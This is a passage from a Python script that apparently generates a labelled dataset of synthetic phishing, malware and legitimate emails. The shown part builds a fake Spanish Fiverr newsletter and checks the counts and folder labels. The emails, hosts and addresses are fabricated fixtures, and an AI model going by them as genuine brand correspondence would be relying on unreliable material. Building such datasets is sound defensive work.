    s = custom(f"bounce-{jobid}-{digits(stem + 'b', 9)}@bounce.e.fiverr.com", f"mta{rint(stem + 'm', 1, 9)}.e.fiverr.com",
               f"13.111.{rint(stem + 'ip', 60, 90)}.{n}", trace, [("e.fiverr.com", "200608")],
               f"<{uuid(stem + 'sfmc')}@dal{rint(stem + 'dal', 1, 9)}s00mta{rint(stem + 'x', 1, 99)}.xt.local>",
               after=[f"x-job: {jobid}", "X-SFMC-Stack: 7", f"x-mid: {rint(stem + 'xm', 1000000, 9999999)}", "X-CSA-Complaints: csa-complaints@eco.de"])

    def lk(tag: str) -> str:
        return f"https://click.e.fiverr.com/?qs={hexs(stem + tag, 192)}"

    markup = card(brand="fiverr.", color="#1dbf73", bg="#f7f7f7", lang="es", font="Macan, 'Helvetica Neue', Helvetica, Arial, sans-serif",
                  heading="5 formas de destacar tu Gig este otoño",
                  preheader="Compradores buscan más traducción y localización que nunca",
                  paras=["Hola, anaortega_trad:",
                         "Las búsquedas de traducción y localización han crecido un 24 % este trimestre. Aprovecha el momento:",
                         f"1. <a href=\"{lk('a')}\">Actualiza las imágenes de tu Gig</a><br>2. <a href=\"{lk('b')}\">Añade paquetes con plazos exprés</a><br>"
                         f"3. <a href=\"{lk('c')}\">Responde en menos de 1 hora</a><br>4. <a href=\"{lk('d')}\">Pide reseñas a tus clientes habituales</a><br>"
                         f"5. <a href=\"{lk('e')}\">Completa tu perfil con certificaciones</a>",
                         "Recuerda: para mantener tus pagos protegidos, comunícate y cobra siempre a través de Fiverr."],
                  button=("Editar mis Gigs", lk("f")),
                  footer=[f"Has recibido este correo porque eres vendedor en Fiverr. <a href=\"{lk('u')}\">Darse de baja</a> · "
                          f"<a href=\"{lk('p')}\">Preferencias</a>",
                          "Fiverr International Ltd., 8 Eliezer Kaplan St, Tel Aviv 6473409, Israel"],
                  pixel=f"https://click.e.fiverr.com/open.aspx?ffcb10-{hexs(stem + 'op', 50)}")
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "bulk",
          "Genuine Spanish Fiverr seller-tips newsletter sent through Salesforce Marketing Cloud (e.fiverr.com) with click.e.fiverr.com "
          "tracking, open pixel and List-Unsubscribe.",
          ANA, s, Auth(policy="reject", bcl=5), frm=addr("Fiverr", "noreply@e.fiverr.com"),
          subject="5 formas de destacar tu Gig este otoño", sent=sent, body=body, to="ana@anaortegatraduce.com", lang="es-ES",
          extra=[f"List-Unsubscribe: <{lk('lu')}>, <mailto:leave-{hexs(stem + 'lv', 40)}@leave.e.fiverr.com>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])


LEGIT = [l01_meta_ad_rejected, l02_instagram_ip_removal, l03_tiktok_shop_product, l04_youtube_copyright_claim,
         l05_google_ads_declined, l06_shopify_payouts, l07_stripe_it, l08_square_transfer, l09_paypal_received_uk,
         l10_etsy_reserve, l11_ebay_sold, l12_amazon_listing, l13_godaddy_fr, l14_upwork_message, l15_sponsorship_agency,
         l16_customer_complaint, l17_wholesale_inquiry, l18_shopify_newsletter_de, l19_etsy_newsletter,
         l20_meta_business_newsletter, l21_youtube_creators, l22_tiktok_business_newsletter, l23_gbp_performance,
         l24_amazon_es_newsletter, l25_fiverr_newsletter_es]


# ============================================================================================
# Main
# ============================================================================================


def main() -> None:
    for fn in ATTACKS + LEGIT:
        fn()
    assert len(MESSAGES) == 75, len(MESSAGES)
    stems = [m[0] for m in MESSAGES]
    assert len(set(stems)) == len(stems), "duplicate stems"
    assert sum(1 for s in stems if "-phish-" in s) == 50
    assert sum(1 for s in stems if "-legit-" in s) == 25

    for old in MAIL.glob(f"*/{PREFIX}-*.eml"):
        old.unlink()

    parser = BytesParser(policy=policy.default)
    lines = []
    for stem, folder, desc, raw in MESSAGES:
        folder = REFILED.get(stem, folder)
        assert folder in ("phishing", "malware", "clean", "bulk"), folder
        if "-legit-" in stem:
            assert folder in ("clean", "bulk"), stem
        else:
            assert folder in ("phishing", "malware"), stem
        msg = parser.parsebytes(raw)
        for name in ("From", "To", "Subject", "Date", "Message-ID"):
            assert msg[name], f"{stem}: missing {name}"
        assert "{" not in str(msg["Return-Path"] or ""), stem
        list(msg.walk())
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(MESSAGES)} messages and {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
